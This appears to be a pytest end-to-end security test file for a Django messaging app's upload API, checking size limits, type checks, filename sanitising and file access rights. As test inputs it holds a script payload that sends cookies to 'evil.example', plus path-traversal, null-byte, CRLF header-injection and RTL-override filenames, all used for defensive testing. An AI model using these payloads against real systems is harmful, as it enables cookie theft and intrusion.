"""Hostile uploads against real server processes (PROTOCOL.md 1.2, "Files"): a huge Content-Length, a body
longer than it may be, a body that lies about its type, names that are paths or hide control characters,
and files fetched by those who may not have them."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth import get_user_model

from messaging.files.models import Upload
from messaging.transport.tokens import create_token

from ..support.uploads import PNG, upload_headers

pytestmark = [pytest.mark.e2e]

HUNDRED_MIB = 100 * 1024 * 1024


def user_with_token(name: str) -> tuple[object, str]:
    user = get_user_model().objects.create_user(username=name, first_name=name)
    return user, create_token(user, "hostile")[1]


def request_head(token: str, **headers: str) -> bytes:
    lines = [
        "POST /api/uploads HTTP/1.1",
        "Host: 127.0.0.1",
        f"Authorization: Bearer {token}",
        "Content-Type: image/png",
        "Upload-Filename: big.png",
        "Idempotency-Key: big-1",
        *(f"{name.replace('_', '-')}: {value}" for name, value in headers.items()),
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def read_answer(conn: socket.socket, timeout: float = 20) -> bytes:
    conn.settimeout(timeout)
    answer = b""
    try:
        while b"\r\n\r\n" not in answer:
            chunk = conn.recv(65536)
            if not chunk:
                break
            answer += chunk
    except (TimeoutError, ConnectionResetError):
        pass
    return answer


def send_until_refused(server, token: str, total: int) -> tuple[int, bytes]:
    """Send the head of an upload of `total` bytes, then its body as fast as the server takes it;
    how many body bytes it took before it answered and closed, and its answer."""
    chunk = b"\x00" * 65536
    sent = 0
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as conn:
        conn.sendall(request_head(token, Content_Length=str(total)))
        conn.settimeout(0.5)
        deadline = time.monotonic() + 60
        while sent < total and time.monotonic() < deadline:
            try:
                sent += conn.send(chunk[: total - sent])
            except TimeoutError:
                continue  # the server reads nothing: its buffers are full
            except (BrokenPipeError, ConnectionResetError):
                break
        return sent, read_answer(conn, 5)


@pytest.fixture(params=["daphne", "uvicorn"])
def server(request, start_daphne, start_uvicorn):
    return (start_daphne if request.param == "daphne" else start_uvicorn)()


async def test_a_huge_content_length_is_refused_before_its_body_is_read(server):
    _, token = await sync_to_async(user_with_token)("ana")
    # The head alone: the answer comes without a byte of the body.
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as conn:
        conn.sendall(request_head(token, Content_Length=str(HUNDRED_MIB)))
        answer = read_answer(conn)
    assert status_of(answer) == 413, answer[:200]
    # The body sent all the same: the server takes a sliver of it (its socket
    # buffers and one read), then the closed connection refuses the rest.
    taken, answer = send_until_refused(server, token, HUNDRED_MIB)
    assert taken < 16 * 1024 * 1024, f"the server read {taken} bytes of a body it refused"
    assert await sync_to_async(Upload.objects.count)() == 0


@pytest.mark.parametrize("kind", ["daphne", "uvicorn"])
async def test_a_chunked_body_over_the_limit_is_refused_and_nothing_kept(kind, start_daphne, start_uvicorn):
    server = (start_daphne if kind == "daphne" else start_uvicorn)(MAX_UPLOAD_BYTES=str(256 * 1024))
    _, token = await sync_to_async(user_with_token)("ana")
    body = PNG + bytes(300 * 1024)
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as conn:
        conn.sendall(request_head(token, Transfer_Encoding="chunked"))
        try:
            for start in range(0, len(body), 32768):
                part = body[start : start + 32768]
                conn.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n")
            conn.sendall(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = read_answer(conn)
    assert status_of(answer) == 413, answer[:200]
    assert await sync_to_async(Upload.objects.count)() == 0
    assert not any((Path(server.env["MEDIA_ROOT"]) / "messaging" / "uploads").glob("*"))


def upload(server, token: str, body: bytes, name: str, content_type: str, raw_name: str | None = None):
    headers = upload_headers(name, content_type, None, {"Authorization": f"Bearer {token}"})
    if raw_name is not None:
        headers["Upload-Filename"] = raw_name
    status, _, content = server.request("POST", "/api/uploads", body, headers)
    return status, json.loads(content)


async def test_a_body_that_lies_about_its_type_is_refused(start_daphne):
    server = start_daphne()
    _, token = await sync_to_async(user_with_token)("ana")
    html = b"<!doctype html><script>document.location='https://evil.example/'+document.cookie</script>"
    for claimed in ("image/png", "image/gif", "application/pdf"):
        assert upload(server, token, html, "cat.png", claimed)[0] == 415
    assert upload(server, token, PNG, "notes.txt", "text/plain")[0] == 415
    assert upload(server, token, html, "page.html", "text/html")[0] == 415
    assert await sync_to_async(Upload.objects.count)() == 0


async def test_names_that_are_paths_or_hold_control_characters_are_refused(start_daphne, tmp_path):
    server = start_daphne()
    _, token = await sync_to_async(user_with_token)("ana")
    for raw in ("..%2F..%2F..%2Fescaped.png", "..", "a%5C..%5Cb.png", "a%00b.png", "a%0D%0AX-Evil:%201.png",
                "%E2%80%AEgnp.exe", "%C0%AF.png"):  # fmt: skip
        assert upload(server, token, PNG, "x", "image/png", raw_name=raw)[0] == 400, raw
    assert await sync_to_async(Upload.objects.count)() == 0
    assert not list(tmp_path.rglob("escaped.png"))


async def test_a_file_is_nobodys_but_its_uploaders_until_posted_then_its_rooms(start_daphne):
    server = start_daphne()
    _, ana = await sync_to_async(user_with_token)("ana")
    _, bob = await sync_to_async(user_with_token)("bob")
    _, eve = await sync_to_async(user_with_token)("eve")
    _, file = upload(server, ana, PNG, "cat.png", "image/png")

    def fetch(token: str | None, url: str = file["url"]) -> int:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        return server.request("GET", url, headers=headers)[0]

    def command(token: str, t: str, d: dict, key: str) -> int:
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}", "Idempotency-Key": key}
        return server.request("POST", "/api/commands", json.dumps({"t": t, "d": d}), headers)[0]

    assert command(bob, "room.join", {"room": "lobby"}, "j-1") == 200
    assert [fetch(ana), fetch(bob), fetch(eve), fetch(None)] == [200, 404, 404, 404]
    assert command(ana, "room.join", {"room": "lobby"}, "j-2") == 200
    assert command(ana, "room.post", {"room": "lobby", "body": "", "attachments": [file["upload"]]}, "p-1") == 200
    assert [fetch(ana), fetch(bob), fetch(eve), fetch(None)] == [200, 200, 404, 404]
    # Another file's id, a guessed one, another path: the same answer as any file she may not have.
    assert fetch(eve, file["url"].replace(file["upload"][-4:], "0000")) == 404
    # Eve cannot post Ana's file to a room of her own to read it there.
    assert command(eve, "room.join", {"room": "eves"}, "j-3") == 200
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {eve}", "Idempotency-Key": "p-2"}
    d = {"room": "eves", "body": "", "attachments": [file["upload"]]}
    status, _, body = server.request("POST", "/api/commands", json.dumps({"t": "room.post", "d": d}), headers)
    assert status == 400 and json.loads(body)["error"]["code"] == "invalid"
    assert fetch(eve) == 404
